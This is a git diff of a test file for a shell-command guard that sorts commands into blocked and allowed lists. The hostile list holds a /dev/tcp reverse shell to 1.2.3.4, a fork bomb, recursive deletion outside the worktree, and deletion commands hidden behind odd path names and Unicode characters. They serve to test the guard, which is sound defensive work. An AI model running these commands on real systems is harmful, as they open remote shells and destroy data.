@@ -5,7 +5,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { decide } from "./decide.js";
 import type { Decision, Place } from "./types.js";
 
-const root = realpathSync(mkdtempSync(join(tmpdir(), "ratchet-guard-")));
+// Letters that a line below or a program's template has too: a folder may be called anything.
+const root = realpathSync(mkdtempSync(join(tmpdir(), "ratchet-guard-XXXXXX-OUT-WT-TMP-")));
 const [worktree, tmp, home, outside] = ["wt", "tmp", "home", "outside"].map((name) => join(root, name)) as [
   string,
   string,
@@ -33,7 +34,8 @@ afterAll(() => rmSync(root, { recursive: true, force: true }));
 
 function shell(command: string): Decision {
   const guard = { worktree, readOnly: false, writable: [tmp] };
-  const text = command.replaceAll("OUT", outside).replaceAll("WT", worktree).replaceAll("TMP", tmp);
+  const places: Record<string, string> = { OUT: outside, WT: worktree, TMP: tmp };
+  const text = command.replaceAll(/OUT|WT|TMP/g, (name) => places[name] ?? name);
   return decide(guard, { kind: "shell", command: text, cwd: worktree }, place);
 }
 
@@ -225,6 +227,12 @@ const hostile = [
   "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
   ":(){ :|:& };:",
   "sh -c '((rm -rf OUT))'",
+  // Names that look like something else.
+  "mktemp ../wtX/a.XXXXXX",
+  "find '../$`wt' -exec rm {} +",
+  "fd . '../$`wt' -x rm {}",
+  "rm -f 'a\uE005b'",
+  "rm -f $'a\\ue005b'",
   // What cannot be read.
   "rm 'unterminated",
   "if true; then",
@@ -270,6 +278,7 @@ const harmless = [
   "export FOO=bar; cat $FOO/x; echo $FOO",
   "NODE_ENV=test npx vitest run src/a.test.ts",
   'T=$(mktemp -d) && cp a "$T/" && rm -rf "$T"',
+  'T=$(mktemp TMP/a.XXXXXX.log) && rm "$T"',
   "echo x > TMP/out.log",
   "cat /etc/os-release; ls -la / ~; df -h",
   "ls ../ 2>/dev/null || true",
